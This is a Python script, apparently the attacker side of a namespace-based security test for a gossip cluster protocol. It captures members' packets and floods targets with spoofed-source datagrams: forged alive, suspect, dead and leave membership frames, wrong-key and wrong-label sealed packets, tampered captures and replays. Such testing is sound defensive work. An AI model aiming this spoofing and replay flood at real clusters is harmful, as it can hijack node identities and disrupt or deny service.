#!/usr/bin/env python3
"""The attacker of netns_hostile.sh: knows the members' addresses (and so their native ids, which
derive from addresses), not the cluster's key. Two commands, run inside the attacker's network
namespace:

  hostile.py capture IFACE OUT [--port 7946] [--skip IP]
      Records every UDP datagram and TCP segment to or from PORT seen on IFACE (an AF_PACKET
      socket: with the LAN's bridge flooding every frame, the attacker sees the members'
      unicast traffic) until SIGTERM, then writes them to OUT (JSON lines). Packets from
      --skip (the attacker's own address) are left out.

  hostile.py flood CAPTURE --targets IP:PORT,... [--members IP:PORT,...] [--self IP]
                   [--total 120000] [--rate 25000]
      Sends TOTAL datagrams (about RATE a second) to the targets through a raw IP socket, with
      spoofed source addresses (real members' or its own), in these kinds:
        garbage       random bytes, random length, random first byte
        truncated     forged plaintext native frames cut short
        plaintext     well-formed plaintext native frames: alive (incarnation 2^40, the
                      attacker's address) / suspect / dead / leave for every real member, pings,
                      multicast data
        wrong_key     the same frames sealed with a key of the attacker's (AES-256-GCM, the
                      native seal's format; random ciphertext if `cryptography` is missing,
                      which a receiver cannot tell apart)
        label         sealed-looking packets carrying a cluster label the cluster does not use
        tampered      captured genuine packets with one byte flipped
        replay        captured genuine packets, unchanged, to their own receiver and to every
                      other target, from their original source
      Then replays every captured TCP stream message (a [u32 length][sealed] message that fits
      one segment: push-pulls) over its own connections to every target.
      Prints one JSON line: datagrams sent by kind, streams replayed.

Standard library only (plus `cryptography` when present)."""
import argparse
import json
import os
import random
import signal
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800


def parse_hostport(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


# ---- capture ----------------------------------------------------------------------------------

def capture(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    s.bind((a.iface, 0))
    s.settimeout(0.2)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    signal.signal(signal.SIGINT, lambda *_: stop.append(1))
    records = []
    while not stop:
        try:
            pkt, addr = s.recvfrom(65535)
        except socket.timeout:
            continue
        except InterruptedError:
            continue
        if addr[2] == socket.PACKET_OUTGOING:
            continue
        rec = parse_ip(pkt, a.port)
        if rec and rec["src"] != a.skip:
            records.append(rec)
    with open(a.out, "w") as f:
        for r in records:
            f.write(json.dumps(r) + "\n")
    udp = sum(1 for r in records if r["proto"] == "udp")
    print(json.dumps({"captured_udp": udp, "captured_tcp": len(records) - udp}), flush=True)


def parse_ip(pkt, port):
    if len(pkt) < 20 or pkt[0] >> 4 != 4:
        return None
    ihl = (pkt[0] & 0x0F) * 4
    total = struct.unpack(">H", pkt[2:4])[0]
    proto = pkt[9]
    src = socket.inet_ntoa(pkt[12:16])
    dst = socket.inet_ntoa(pkt[16:20])
    body = pkt[ihl:total]
    if proto == 17 and len(body) >= 8:
        sport, dport = struct.unpack(">HH", body[:4])
        payload = body[8:]
        kind = "udp"
    elif proto == 6 and len(body) >= 20:
        sport, dport = struct.unpack(">HH", body[:4])
        payload = body[(body[12] >> 4) * 4:]
        kind = "tcp"
    else:
        return None
    if port not in (sport, dport) or not payload:
        return None
    return {"proto": kind, "src": src, "sport": sport, "dst": dst, "dport": dport,
            "data": payload.hex()}


# ---- forging ----------------------------------------------------------------------------------

def varint(v):
    out = bytearray()
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def frame(ftype, body):
    return bytes([ftype]) + varint(len(body)) + body


def node_id(ip, port):
    return (struct.unpack(">I", socket.inet_aton(ip))[0] << 16) | port


def address(ip, port):
    return b"\x04" + socket.inet_aton(ip) + struct.pack(">H", port)


def forged_frames(members, self_ip, rng):
    """Plaintext native datagrams an attacker would like the members to believe."""
    out = []
    ids = [node_id(ip, port) for ip, port in members]
    big = 1 << 40
    for (ip, port), mid in zip(members, ids):
        other = ids[(ids.index(mid) + 1) % len(ids)]
        name = ("node-forged-" + ip).encode()
        alive = varint(mid) + varint(big) + address(self_ip, port) + varint(0) + varint(len(name)) + name
        out.append(b"\x01" + frame(0x24, alive))                                # alive, hijack
        out.append(b"\x01" + frame(0x25, varint(mid) + varint(big) + varint(other)))  # suspect
        out.append(b"\x01" + frame(0x26, varint(mid) + varint(big) + varint(other)))  # dead
        out.append(b"\x01" + frame(0x26, varint(mid) + varint(big) + varint(mid)))    # leave
        out.append(b"\x01" + frame(0x20, varint(rng.getrandbits(31)) + varint(mid) + varint(other)))
        # a member the cluster does not have, joining through gossip
        fake = node_id(self_ip, 7000 + len(out))
        body = varint(fake) + varint(1) + address(self_ip, 7000 + len(out)) + varint(0) + varint(5) + b"intru"
        out.append(b"\x01" + frame(0x24, body))
        # a multicast "from" this member: data frame (origin, seq, hops, flags, payload)
        payload = b"forged-multicast"
        out.append(b"\x01" + frame(0x10, varint(mid) + varint(rng.getrandbits(20)) + varint(0) +
                                   b"\x00" + payload))
    return out


class Sealer:
    """The native seal's format under a key the cluster does not have."""

    def __init__(self, rng):
        self.key = bytes(rng.getrandbits(8) for _ in range(32))
        try:
            from cryptography.hazmat.primitives.ciphers.aead import AESGCM
            self.gcm = AESGCM(self.key)
        except Exception:  # no `cryptography`: random ciphertext, indistinguishable to a receiver
            self.gcm = None
        self.rng = rng

    def seal(self, plain, label=b""):
        header = bytes([0xC5, len(label)]) + label
        inner = struct.pack(">q", int(time.time() * 1000)) + plain
        nonce = os.urandom(12)
        if self.gcm:
            ct = self.gcm.encrypt(nonce, inner, header)
        else:
            ct = os.urandom(len(inner) + 16)
        return header + b"\x01" + nonce + ct


# ---- sending ----------------------------------------------------------------------------------

def checksum(b):
    if len(b) % 2:
        b += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


class RawSender:
    """UDP datagrams with any source address (IP_HDRINCL; the kernel fills the IP checksum)."""

    def __init__(self):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        self.ident = 1
        self.errors = 0

    def send(self, src, sport, dst, dport, payload):
        udp_len = 8 + len(payload)
        total = 20 + udp_len
        self.ident = (self.ident + 1) & 0xFFFF
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, self.ident, 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        udp = struct.pack("!HHHH", sport, dport, udp_len, 0)  # checksum 0: none (IPv4)
        try:
            self.s.sendto(ip + udp + payload, (dst, 0))
            return True
        except OSError:
            self.errors += 1
            return False


def load_capture(path):
    udp, tcp = [], []
    if path and os.path.exists(path):
        with open(path) as f:
            for line in f:
                r = json.loads(line)
                r["data"] = bytes.fromhex(r["data"])
                (udp if r["proto"] == "udp" else tcp).append(r)
    return udp, tcp


def flood(a):
    rng = random.Random(a.seed)
    targets = [parse_hostport(t) for t in a.targets.split(",")]
    members = [parse_hostport(t) for t in (a.members or a.targets).split(",")]
    udp, tcp = load_capture(a.capture)
    sealed = [r for r in udp if r["data"][:1] == b"\xc5"]
    forged = forged_frames(members, a.self, rng)
    sealer = Sealer(rng)
    wrong_key = [sealer.seal(f) for f in forged for _ in range(4)]
    labelled = [sealer.seal(f, b"other-cluster") for f in forged]
    sources = [(ip, port) for ip, port in members] + [(a.self, 7946)]
    raw = RawSender()
    sent = {k: 0 for k in ("garbage", "truncated", "plaintext", "wrong_key", "label",
                           "tampered", "replay")}
    # Weights per 100 packets; replays and tampering only when something was captured.
    plan = [("garbage", 20), ("truncated", 10), ("plaintext", 20), ("wrong_key", 20),
            ("label", 2)]
    if sealed:
        plan += [("tampered", 8), ("replay", 20)]
    cycle = [k for k, w in plan for _ in range(w)]
    rng.shuffle(cycle)
    replay_i = 0
    t0 = time.monotonic()
    n = 0
    while n < a.total:
        kind = cycle[n % len(cycle)]
        dst, dport = targets[n % len(targets)]
        src, sport = rng.choice([x for x in sources if x[0] != dst])  # a receiver drops its own
        if kind == "garbage":
            data = os.urandom(rng.randint(1, 1400))
        elif kind == "truncated":
            f = rng.choice(forged)
            data = f[: rng.randint(1, len(f) - 1)]
        elif kind == "plaintext":
            data = rng.choice(forged)
        elif kind == "wrong_key":
            data = rng.choice(wrong_key)
        elif kind == "label":
            data = rng.choice(labelled)
        elif kind == "tampered":
            r = rng.choice(sealed)
            b = bytearray(r["data"])
            i = rng.randrange(2, len(b))
            b[i] ^= 1 << rng.randrange(8)
            data = bytes(b)
            src, sport = r["src"], r["sport"]
        else:  # replay: every captured packet to every other target, in turn, from its sender
            while True:
                r = sealed[(replay_i // len(targets)) % len(sealed)]
                dst, dport = targets[replay_i % len(targets)]
                replay_i += 1
                if r["src"] != dst:
                    break
            data = r["data"]
            src, sport = r["src"], r["sport"]
        if raw.send(src, sport, dst, dport, data):
            sent[kind] += 1
        n += 1
        if n % 500 == 0:  # pace: about a.rate a second
            ahead = n / a.rate - (time.monotonic() - t0)
            if ahead > 0:
                time.sleep(ahead)
    flood_s = time.monotonic() - t0
    streams = replay_streams(tcp, targets)
    print(json.dumps({"sent": sum(sent.values()), "by_kind": sent, "send_errors": raw.errors,
                      "seconds": round(flood_s, 2), "captured_sealed": len(sealed),
                      "streams_replayed": streams}), flush=True)


def replay_streams(tcp, targets):
    """Replays captured whole stream messages ([u32 length][sealed]) to every target."""
    messages = []
    for r in tcp:
        d = r["data"]
        if len(d) > 6 and struct.unpack(">I", d[:4])[0] == len(d) - 4 and d[4] == 0xC5:
            messages.append(d)
    done = 0
    for m in messages[:64]:
        for host, port in targets:
            try:
                with socket.create_connection((host, port), timeout=1) as c:
                    c.sendall(m)
                    c.settimeout(0.2)
                    try:
                        c.recv(65536)
                    except OSError:
                        pass
                done += 1
            except OSError:
                pass
    return done


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("capture")
    c.add_argument("iface")
    c.add_argument("out")
    c.add_argument("--port", type=int, default=7946)
    c.add_argument("--skip", default="")
    f = sub.add_parser("flood")
    f.add_argument("capture")
    f.add_argument("--targets", required=True)
    f.add_argument("--members", default="")
    f.add_argument("--self", required=True)
    f.add_argument("--total", type=int, default=120000)
    f.add_argument("--rate", type=float, default=25000)
    f.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    if a.cmd == "capture":
        capture(a)
    else:
        flood(a)


if __name__ == "__main__":
    sys.exit(main())
